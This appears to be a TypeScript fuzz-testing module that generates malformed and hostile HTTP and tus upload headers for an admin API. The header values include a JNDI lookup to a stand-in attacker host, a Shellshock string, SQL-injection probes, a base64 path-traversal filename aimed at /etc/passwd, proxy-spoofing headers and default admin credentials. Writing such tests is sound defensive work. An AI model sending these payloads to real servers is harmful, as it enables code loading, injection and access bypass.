import fc from 'fast-check';
import type { z } from 'zod';
import { testFeedKey } from '#admin-api/testing/api-server.ts';
import type { Part } from './schema-values.ts';

export type Header = [name: string, value: string];

const one = fc.constantFrom<Header>(
  ['Origin', 'https://evil.example'],
  ['Origin', 'null'],
  ['Origin', 'http://films.example'],
  ['Origin', `http://${'a'.repeat(5000)}`],
  ['Origin', '::::'],
  ['Sec-Fetch-Site', 'cross-site'],
  ['Sec-Fetch-Site', 'same-origin'],
  ['Referer', 'javascript:alert(1)'],
  ['Accept', 'text/html'],
  ['Accept', '*/*;q=0'],
  ['Accept', ','.repeat(3000)],
  ['Accept-Encoding', 'gzip;q=x, br;q=-1, *'],
  ['Accept-Language', 'xx-'.repeat(2000)],
  ['Authorization', `Bearer ${testFeedKey}`],
  ['Authorization', 'Bearer '],
  ['Authorization', `Bearer lamphouse_${'A'.repeat(43)}`],
  ['Authorization', "Bearer lamphouse_' or sentinel() --"],
  ['Authorization', 'bearer \xff\xfe'],
  ['Authorization', 'Basic YWRtaW46YWRtaW4='],
  ['Authorization', `Bearer ${'f'.repeat(5000)}`],
  ['Cookie', 'lamphouse=AAAA; lamphouse.sig=BBBB'],
  ['Cookie', 'lamphouse=%00; lamphouse.sig=%zz'],
  ['Cookie', '__proto__=1; constructor=2; ;;=;'],
  ['Cookie', 'a=1;'.repeat(1500)],
  ['Cookie', 'lamphouse={"adminId":1}'],
  ['If-None-Match', '*'],
  ['If-None-Match', `W/"${'a'.repeat(3000)}"`],
  ['If-Modified-Since', 'not a date'],
  ['Range', 'bytes=0-'],
  ['Range', `bytes=${'0-0,'.repeat(1000)}0-0`],
  ['Range', 'bytes=-99999999999999999999'],
  ['Expect', '100-continue'],
  ['Expect', 'anything'],
  ['Upgrade', 'websocket'],
  ['Upgrade', 'h2c'],
  ['TE', 'trailers'],
  ['X-HTTP-Method-Override', 'DELETE'],
  ['X-Original-URL', '/api/admin/me'],
  ['X-Rewrite-URL', '/api/admin/me'],
  ['X-Forwarded-Host', 'evil.example'],
  ['X-Forwarded-Proto', 'javascript'],
  ['X-Forwarded-For', '127.0.0.1'],
  ['X-Forwarded-For', `${'1.1.1.1, '.repeat(500)}x`],
  ['X-Real-IP', '127.0.0.1'],
  ['Forwarded', 'for=127.0.0.1;host=evil.example;proto=https'],
  ['X-Request-Id', "'; select sentinel(); --"],
  ['X-Request-Id', 'a'.repeat(5000)],
  ['User-Agent', '\x24{jndi:ldap://evil.example/a}'],
  ['User-Agent', '() { :;}; echo x'],
  ['Content-Language', '\xff\xfe'],
  ['Content-Length-X', '5'],
  ['Idempotency-Key', "' or sentinel() --"],
  ['Idempotency-Key', 'k'.repeat(4000)],
  ['Upload-Length', '-1'],
  ['__proto__', 'x'],
  ['constructor', 'x'],
);

/** Up to three headers that have a meaning for some server. */
export const fuzzHeaders: fc.Arbitrary<Header[]> = fc.array(one, { minLength: 1, maxLength: 3 });

const number = fc.constantFrom(
  '0',
  '1',
  '70',
  '500',
  '-1',
  '1e9',
  '524288001',
  '99999999999999999999',
  'x',
  '',
);
const metadata = fc.constantFrom(
  'filename ZmlsbS5tcDQ=,filetype dmlkZW8vbXA0,kind dmlkZW8=',
  'kind cG9zdGVy',
  'filename Li4vLi4vZXRjL3Bhc3N3ZA==',
  '__proto__ eA==',
  'a,b,c',
  'filename ***',
  `filename ${'A'.repeat(8000)}`,
  '',
);

const wellMeant: Record<string, string> = {
  'Tus-Resumable': '1.0.0',
  'Upload-Length': '70',
  'Upload-Metadata': 'kind cG9zdGVy',
  'Upload-Offset': '0',
};
const oddHeaders = fc.record(
  {
    'Tus-Resumable': fc.constantFrom('1.0.0', '1.0.0', '0.2.2', 'x', ''),
    'Upload-Length': number,
    'Upload-Offset': number,
    'Upload-Metadata': metadata,
    'Upload-Defer-Length': fc.constantFrom('1', 'x'),
    'Upload-Concat': fc.constantFrom('partial', 'final;/api/upload/resumable/a'),
  },
  { requiredKeys: [] },
);

/** The headers of a contract, valid or invalid; only resumable uploads have some. */
export function headersOf(asked: z.ZodObject | undefined): Part<Header[]> {
  if (!asked) return { plain: fc.constant([]), fuzzed: fc.constant([]) };
  // An idempotency key may be left out, and a repeated one would be refused.
  const right = Object.keys(asked.shape)
    .filter((name) => name !== 'Idempotency-Key')
    .map((name): Header => [name, wellMeant[name] ?? '']);
  const wrong = oddHeaders.map((headers) => Object.entries({ ...Object.fromEntries(right), ...headers }));
  return {
    plain: fc.constant(right),
    fuzzed: fc.oneof(
      wrong,
      oddHeaders.map((headers) => Object.entries(headers)),
    ),
  };
}
